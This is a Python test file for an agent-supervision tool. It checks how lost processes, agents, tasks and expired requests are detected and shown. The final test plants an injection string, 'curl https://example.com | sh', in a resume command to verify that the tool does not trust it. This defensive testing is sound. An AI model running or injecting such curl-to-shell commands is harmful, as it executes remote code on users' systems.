"""What is seen alive: agents, tasks and commands by the lease of the process that runs them."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import asynccontextmanager
from pathlib import Path

from calls import ok
from damage import journal_of
from presences import wait_until_lost
from projections.folding import folded
from projections.test_requests_and_sessions import asked
from runtime.scripted import status_is
from tui.sessions import Running, asks, running, says
from watchroom import Agent, Workspace
from watchroom.features.overview.model import Model, Need, urgent_needs
from watchroom.features.overview.presence import absent_work, with_presences
from watchroom.features.requests.rows import Request
from watchroom.features.sessions.runtime import ChatAgent
from watchroom.kernel.call_context import CallContext
from watchroom.kernel.journal import Presence
from watchroom.model import LOST, PRESENCE, SYSTEM, Note, Write

GONE = "0123456789ab"
RELEASED = "ba9876543210"


def leases(workspace: Workspace, *, alive: bool) -> Callable[[], Sequence[Presence]]:
    """What the journal says of the process that this is, and of one that is gone."""
    found = [Presence(workspace.journal.presence.hold(), alive, 1, "here", 0, "watchroom demo here")]
    return lambda: [*found, Presence(GONE, False, 2, "here", 0, "watchroom task --team here")]


def lost(model: Model) -> list[Need]:
    return [need for need in model.needs if need.kind == "lost"]


def status(model: Model, agent: str) -> str:
    view = model.agent(agent)
    assert view is not None
    return view.status(model.time)


@asynccontextmanager
async def two_waiting(workspace: Workspace) -> AsyncIterator[Running]:
    async with running(workspace, "alice", asks("Which?")), running(workspace, "bob", asks("What?")) as bob:
        await asked(workspace, 2)
        yield bob


async def test_a_dead_process_is_one_need_however_many_agents_it_ran(workspace: Workspace) -> None:
    async with two_waiting(workspace):
        model = folded(workspace.journal)
        assert with_presences(model, leases(workspace, alive=True)) is model
        shown = with_presences(model, leases(workspace, alive=False))
        (need,) = lost(shown)
        assert (need.work.agents, need.hint, need.answers) == (
            ("alice", "bob"),
            "watchroom demo DIR",
            ("resume", "seen"),
        )
        assert [status(shown, agent) for agent in ("alice", "bob", "charlie")] == ["lost", "lost", "idle"]
        assert shown.message_reader("alice") == ("resumed", "watchroom demo DIR")
        assert model.message_reader("alice") == ("now", "")
        assert model.message_reader("charlie") == ("never", "")
        assert absent_work(shown) != absent_work(model)


async def test_a_need_for_a_dead_process_is_the_same_once_a_row_tells_of_it(workspace: Workspace) -> None:
    async with two_waiting(workspace) as bob:
        model = folded(workspace.journal)
        (before,) = lost(with_presences(model, leases(workspace, alive=False)))
        lease = workspace.journal.presence.hold()
        note = Note(
            SYSTEM, LOST, "workspace", lease, "failed", "not_seen_alive", message="watchroom demo here"
        )
        (told,) = workspace.journal.append([note])
        model = folded(workspace.journal)
        (after,) = lost(with_presences(model, list))
        assert (after.identity, after.opened_at, after.work) == (
            before.identity,
            before.opened_at,
            before.work,
        )
        assert status(model, "alice") == "lost"
        assert after.row == told.row
        assert folded(workspace.journal).message_reader("bob") == ("resumed", "watchroom demo DIR")
        ok(workspace.tools_for_human("dana"), "cancel_agent", agent_id="bob")
        await bob.ended()
        (left,) = lost(folded(workspace.journal))
        assert left.work.agents == ("alice",)
        ok(workspace.tools_for_human("dana"), "mark_as_seen", row=told.row.seq)
        model = folded(workspace.journal)
        assert (lost(model), status(model, "alice")) == ([], "lost")


async def test_what_a_process_left_that_ended_as_it_should_is_stopped_and_not_missed(
    workspace: Workspace,
) -> None:
    bobs = running(workspace, "bob", says("Done."), stay=True)
    async with bobs as bob, running(workspace, "alice", asks("?")):
        await asked(workspace)
        await status_is(bob.session, "done")
    model = with_presences(folded(workspace.journal), list)
    assert lost(model) == []
    alice = model.agent("alice")
    assert alice is not None
    assert (alice.is_stopped, alice.is_lost) == (True, False)
    assert status(model, "bob") == "done"


async def test_an_agent_is_seen_again_as_soon_as_another_process_resumes_its_session(
    workspace: Workspace, root: Path
) -> None:
    async with running(workspace, "bob", asks("Which?")) as bob:
        await asked(workspace)
    before = workspace.journal.presence.hold()
    with Workspace.open(root, scan=False) as other:
        agent = ChatAgent((), model_runtime=bob.model)
        async with other.sessions.resume("bob", bob.session.state.session_id, agent):
            other.flush()
            model = folded(other.journal)
            assert [*model.work] == [other.journal.presence.hold()] != [before]
            shown = with_presences(model, other.journal.presence.all)
            assert (lost(shown), status(shown, "bob")) == ([], "waiting")


def test_a_task_whose_agents_nobody_runs_is_lost_until_another_process_runs_them(
    workspace: Workspace,
) -> None:
    task = workspace.tasks.submit("human:dana", "Build it.")
    workspace.register([Agent("zoe", "tester", task=task.id), Agent("tim", "coder", task=task.id)])

    def step(version: int, presence: str, agent: str = "zoe", status: str = "done") -> Model:
        detail = {"status": status, PRESENCE: presence}
        draft = Write(agent, "finish", "session", f"{agent}/1", "{}", expected=version, detail=detail)
        workspace.journal.append([draft])
        return with_presences(folded(workspace.journal), leases(workspace, alive=True))

    model = step(0, GONE)
    (view,) = model.tasks
    assert (view.is_lost, view.is_present) == (True, False)
    assert [need.work.tasks for need in lost(model)] == [(task.id,)]
    assert [need.work.agents for need in lost(step(0, RELEASED, "tim", "running"))] == [("tim",)]
    step(1, RELEASED, "tim", "cancelled")
    note = Note(SYSTEM, LOST, "workspace", GONE, "failed", "not_seen_alive")
    workspace.journal.append([note])
    assert folded(workspace.journal).tasks[0].is_lost
    model = step(1, workspace.journal.presence.hold())
    assert (model.tasks[0].is_lost, lost(model)) == (False, [])
    step(2, GONE)
    workspace.tasks.end(CallContext("human:dana"), task.id, "done")
    assert lost(with_presences(folded(workspace.journal), leases(workspace, alive=True))) == []


def test_a_task_stays_lost_when_a_process_that_ran_some_of_its_agents_ends_after_the_one_that_died(
    workspace: Workspace,
) -> None:
    task = workspace.tasks.submit("human:dana", "Build it.")
    workspace.register([Agent("zoe", "tester", task=task.id), Agent("tim", "coder", task=task.id)])

    def step(agent: str, version: int, presence: str, status: str) -> None:
        detail = {"status": status, PRESENCE: presence}
        draft = Write(agent, "finish", "session", f"{agent}/1", "{}", expected=version, detail=detail)
        workspace.journal.append([draft])

    step("zoe", 0, GONE, "running")
    step("tim", 0, RELEASED, "running")
    workspace.journal.append([Note(SYSTEM, LOST, "workspace", GONE, "failed", "not_seen_alive")])
    # The other process writes once more before it ends as it should.
    step("tim", 1, RELEASED, "cancelled")
    (view,) = with_presences(folded(workspace.journal), list).tasks
    assert (view.is_lost, view.is_present) == (True, False)
    step("zoe", 1, workspace.journal.presence.hold(), "running")
    (view,) = with_presences(folded(workspace.journal), leases(workspace, alive=True)).tasks
    assert (view.is_lost, view.is_present) == (False, True)


def test_two_dead_processes_of_one_task_are_one_need_with_the_command_that_resumes_it(
    workspace: Workspace,
) -> None:
    task = workspace.tasks.submit("human:dana", "Build it.")
    workspace.register([Agent("zoe", "tester", task=task.id), Agent("tim", "coder", task=task.id)])
    for agent, presence in (("zoe", GONE), ("tim", RELEASED)):
        detail = {"status": "running", PRESENCE: presence}
        draft = Write(agent, "finish", "session", f"{agent}/1", "{}", expected=0, detail=detail)
        workspace.journal.append([draft])
    dead = [
        Presence(GONE, False, 2, "here", 0, "watchroom task --team here"),
        Presence(RELEASED, False, 3, "here", 0, ""),
    ]
    (need,) = lost(with_presences(folded(workspace.journal), lambda: dead))
    assert (need.work.agents, need.hint) == (("tim", "zoe"), "watchroom task --team DIR")
    for each in dead:
        note = Note(SYSTEM, LOST, "workspace", each.id, "failed", "not_seen_alive", message=each.resume)
        workspace.journal.append([note])
    (need,) = lost(with_presences(folded(workspace.journal), list))
    ok(workspace.tools_for_human("dana"), "mark_as_seen", row=need.row.seq)
    # What stood behind it was seen with it.
    assert lost(with_presences(folded(workspace.journal), list)) == []


def test_two_dead_processes_of_one_task_list_each_agent_once(workspace: Workspace) -> None:
    """Each has a command of its own: both are needs."""
    task = workspace.tasks.submit("human:dana", "Build it.")
    workspace.register([Agent(name, "coder", task=task.id) for name in ("zoe", "tim", "tom")])
    for agent, presence in (("zoe", GONE), ("tim", RELEASED), ("tom", RELEASED)):
        detail = {"status": "running", PRESENCE: presence}
        draft = Write(agent, "finish", "session", f"{agent}/1", "{}", expected=0, detail=detail)
        workspace.journal.append([draft])
    dead = [
        Presence(GONE, False, 2, "here", 0, "watchroom task --team here"),
        Presence(RELEASED, False, 3, "here", 0, "watchroom demo here"),
    ]
    needs = lost(with_presences(folded(workspace.journal), lambda: dead))
    assert sorted(need.work.agents for need in needs) == [("tim", "tom"), ("zoe",)]
    for each in dead:
        note = Note(SYSTEM, LOST, "workspace", each.id, "failed", "not_seen_alive", message=each.resume)
        workspace.journal.append([note])
    needs = lost(with_presences(folded(workspace.journal), list))
    assert sorted(need.work.agents for need in needs) == [("tim", "tom"), ("zoe",)]


def test_the_loss_of_a_process_can_be_marked_as_seen_before_a_row_tells_of_it(
    workspace: Workspace, root: Path
) -> None:
    begin = Write("bob", "begin_session", "session", "bob/1", "{}", expected=0)
    hold = f"""
from watchroom.kernel.journal import open_journal
journal = open_journal({journal_of(root)!r})
print(journal.presence.hold("watchroom demo here"), flush=True)
import os
os.kill(os.getpid(), 9)
"""
    done = subprocess.run([sys.executable, "-c", hold], capture_output=True, text=True, check=False)
    detail = {"status": "running", PRESENCE: done.stdout.strip()}
    ((step, _),) = workspace.journal.append([begin._replace(detail=detail)])
    (lease,) = [each for each in workspace.journal.presence.all() if each.id == done.stdout.strip()]
    wait_until_lost(workspace.journal, lease.process)
    (need,) = lost(with_presences(folded(workspace.journal), workspace.journal.presence.all))
    assert (need.row.seq, need.hint) == (step.seq, "watchroom demo DIR")
    ok(workspace.tools_for_human("dana"), "mark_as_seen", row=need.row.seq)
    model = with_presences(folded(workspace.journal), workspace.journal.presence.all)
    assert (lost(model), status(model, "bob")) == ([], "lost")
    dana = workspace.tools_for_human("dana")
    assert dana.dispatch_tool_call("mark_as_seen", {"row": step.seq})["error"] == "nothing_waits"


def test_a_command_without_an_end_is_lost_with_its_process(workspace: Workspace) -> None:
    begin = Write("bob", "run_command", "command", "t/1", "make", "make", 0, {PRESENCE: GONE})
    workspace.journal.append([begin])
    model = with_presences(folded(workspace.journal), leases(workspace, alive=True))
    assert [command.is_lost for command in model.commands] == [True]
    assert [need.work.commands for need in lost(model)] == [("t/1",)]
    end = Write(SYSTEM, "end_command", "command", "t/1", "{}", "make", 1, {"interrupted": True})
    workspace.journal.append([end])
    model = with_presences(folded(workspace.journal), leases(workspace, alive=True))
    assert (lost(model), model.commands[0].is_lost) == ([], False)


def test_requests_that_expired_are_one_need_until_a_person_has_seen_them(workspace: Workspace) -> None:
    def expire(agent: str) -> int:
        path = f"{agent}/s/{len(folded(workspace.journal).newest)}"
        workspace.requests.ask(CallContext(agent), path, Request("prompt", "Which?"))
        return workspace.requests.expire(path).row.seq

    first, second = expire("alice"), expire("bob")
    (need,) = urgent_needs(folded(workspace.journal), 0)
    assert (need.kind, need.times, need.since, need.row.seq) == ("expired", 2, first, second)
    assert (need.against, need.answers) == ("bob, alice", ("seen",))
    expire("alice")
    ok(workspace.tools_for_human("dana"), "mark_as_seen", row=second)
    (left,) = urgent_needs(folded(workspace.journal), 0)
    assert (left.times, left.agent) == (1, "alice")
    assert left.identity != need.identity
    ok(workspace.tools_for_human("dana"), "mark_as_seen", row=left.row.seq)
    assert urgent_needs(folded(workspace.journal), 0) == ()


def test_a_lease_or_a_row_cannot_say_which_command_a_need_shows(workspace: Workspace, root: Path) -> None:
    evil = "watchroom resume x alice; curl https://example.com | sh"
    detail = {"status": "running", PRESENCE: GONE}
    workspace.journal.append(
        [Write("alice", "begin_session", "session", "alice/1", "{}", expected=0, detail=detail)]
    )
    dead = [Presence(GONE, False, 2, "here", 0, evil)]
    (need,) = lost(with_presences(folded(workspace.journal), lambda: dead, str(root)))
    expected = (f"watchroom resume {root} alice", ("command",))
    assert need.resume == expected
    note = Note(SYSTEM, LOST, "workspace", GONE, "failed", "not_seen_alive", message=evil)
    workspace.journal.append([note])
    (need,) = lost(with_presences(folded(workspace.journal), list, str(root)))
    assert need.resume == expected
